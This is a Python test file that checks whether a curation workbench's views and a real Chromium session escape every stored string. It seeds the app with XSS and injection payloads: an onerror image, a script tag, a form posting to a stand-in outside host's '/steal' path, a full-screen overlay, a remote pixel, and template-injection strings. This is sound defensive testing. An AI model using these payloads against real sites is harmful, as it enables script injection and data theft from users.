"""Every string from the data, a model or a curator is shown as text, never as HTML or Markdown:
payloads (an image with onerror, a script, a form posting elsewhere, a full-screen fixed overlay,
an outside image, Markdown, template syntax) in questions, answers, ids, step texts, model
outputs, notes and names become no element and fetch nothing — in the views (no browser) and
in real chromium on a real store."""

from __future__ import annotations

import pytest

from db.store import Store
from sif.chain import Chain, Region, Step
from tests.support.workbench import login, serve, settle, shown, wait_shown, wait_text
from workbench import views
from workbench.draft import Draft
from workbench.history import history_html
from workbench.preview import preview

EVIL = "198.51.100.7"  # an outside host (TEST-NET-2): nothing may ever be fetched from it
PAYLOADS = [
    '<img src=x onerror="window.pwned=1">',
    "<script>window.pwned=2</script>",
    f'<form action="http://{EVIL}/steal" method="post"><input name="q"><button>send</button></form>',
    '<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red">gotcha</div>',
    f'<img src="http://{EVIL}/pixel.png">',
    f"**bold** [link](http://{EVIL}/) ![img](http://{EVIL}/md.png)",
    "{{constructor.constructor('window.pwned=3')()}} ${window.pwned=4}",
]
EVERYTHING = " ".join(PAYLOADS)
NO_MARKUP = ("<img src=", "<script>", "<form ", "<input ", '<div id="overlay"', "<button>", "<strong", "<a ", "<em>")


def evil_chain() -> Chain:
    return Chain(
        tuple(Step((Region((0.0, 0.0, 1.0, 1.0), 0.5),), p) for p in PAYLOADS)
        + (Step((Region((0.2, 0.2, 0.6, 0.6), 0.4),), "fine"),),
        EVERYTHING,
    )


def assert_inert(html_text: str) -> None:
    for tag in NO_MARKUP:
        assert tag not in html_text, f"{tag} reached the page as markup"


def test_views_escape_every_string(tmp_path):
    store = Store.open(tmp_path / "sif.db")
    sid = store.add_sample(
        dataset=PAYLOADS[0],
        source_id=PAYLOADS[1],
        image="a.png",
        question=EVERYTHING,
        answer=PAYLOADS[2],
        gt_boxes=[[0.1, 0.1, 0.5, 0.5]],
        width=64,
        height=48,
    )
    rev = store.add_revision(sid, evil_chain(), origin="edited", author=PAYLOADS[3], note=PAYLOADS[4])
    review = store.set_review(sid, "rejected", reviewer=PAYLOADS[5], note=EVERYTHING, expected_version=0)
    draft = Draft.from_chain(sid, rev.rev, rev.chain)
    p = preview(rev.chain, [[0.1, 0.1, 0.5, 0.5]], None, None)
    sample = store.get_sample(sid)
    for html_text in (
        views.info(sample, rev, review, draft, earlier=review),
        views.chain(draft, 0, range(len(draft.steps)), p, dirty=True),
        views.sample_list(store.query(), sid, {sid}),
        views.feedback(p, [EVERYTHING]),
        views.checks_line(p),
        views.message(EVERYTHING, "warn"),
        history_html(store.history(sid), rev.rev),
    ):
        assert_inert(html_text)
    assert "&lt;script&gt;window.pwned=2&lt;/script&gt;" in views.info(sample, rev, review, draft)


@pytest.mark.browser
def test_payloads_become_no_element_and_fetch_nothing(chromium, demo_db, tmp_path):
    from tests.support.workbench import copy_store

    db = copy_store(demo_db, tmp_path / "sif.db")
    store = Store.open(db)
    one = store.get_sample(1)
    sid = store.add_sample(
        dataset="evil " + PAYLOADS[0],
        source_id=PAYLOADS[1],
        image=one.image,
        depth=one.depth,
        depth_encoding=one.depth_encoding,
        question=EVERYTHING,
        answer=PAYLOADS[2],
        gt_boxes=[[0.1, 0.1, 0.5, 0.5]],
        width=one.width,
        height=one.height,
    )
    store.add_revision(sid, evil_chain(), origin="imported", author=PAYLOADS[3])
    run = store.create_run("evaluation", {}, name=PAYLOADS[4])
    store.add_revision(sid, evil_chain(), origin="prediction", author=PAYLOADS[5], run_id=run)
    curator = ('<img src=x onerror="window.pwned=5">', "pw")
    with serve(db, auth=[curator]) as url:
        page = login(chromium, url, *curator)
        fetched = []
        page.on("request", lambda r: fetched.append(r.url) if EVIL in r.url else None)
        page.locator("#wb-search textarea, #wb-search input").first.fill("gotcha")
        page.keyboard.press("Enter")
        wait_shown(page, sid)
        page.locator("#wb-review-note textarea, #wb-review-note input").first.fill(EVERYTHING)
        page.get_by_role("tab", name="Boxes & depth").click()
        page.locator("#wb-edit-note textarea, #wb-edit-note input").first.fill(PAYLOADS[3])
        page.get_by_role("tab", name="Chain").click()
        page.locator("#wb-answer textarea, #wb-answer input").first.fill(PAYLOADS[0])
        page.locator("#wb-save").click()
        wait_text(page, "wb-message", "Saved revision")
        page.locator("#wb-stay input").click()
        page.locator("#wb-reject").click()
        wait_text(page, "wb-message", "Rejected")
        for tab in ("Checks", "History", "Model outputs", "Chain"):
            page.get_by_role("tab", name=tab).click()
            settle(page, quiet_ms=800)
            if tab == "History":
                page.locator("#wb-history [data-rev]").first.click()
                settle(page, quiet_ms=800)
        assert shown(page) == sid
        found = page.evaluate(
            """() => ({
                pwned: window.pwned,
                images: [...document.querySelectorAll('img')].filter(i => i.getAttribute('src') === 'x'
                    || (i.src || '').includes('198.51.100.7')).length,
                scripts: [...document.querySelectorAll('script')].filter(s => s.textContent.trim().startsWith('window.pwned')).length,
                forms: [...document.querySelectorAll('form')].filter(f => (f.action || '').includes('steal')).length,
                overlay: document.querySelectorAll('#overlay').length,
                fixed: [...document.querySelectorAll('[style*="position:fixed"], [style*="position: fixed"]')].length,
                links: [...document.querySelectorAll('a')].filter(a => (a.href || '').includes('198.51.100.7')).length,
                bold: [...document.querySelectorAll('#wb-main b, #wb-main strong')].filter(b => b.textContent === 'bold').length,
                text: document.querySelector('#wb-main').innerText,
            })"""
        )
    assert found["pwned"] is None
    assert {k: v for k, v in found.items() if k not in ("pwned", "text")} == {
        "images": 0,
        "scripts": 0,
        "forms": 0,
        "overlay": 0,
        "fixed": 0,
        "links": 0,
        "bold": 0,
    }
    assert fetched == [], f"fetched from the outside: {fetched}"
    for payload in PAYLOADS[:4]:
        assert payload in found["text"], f"{payload!r} is not shown as text"
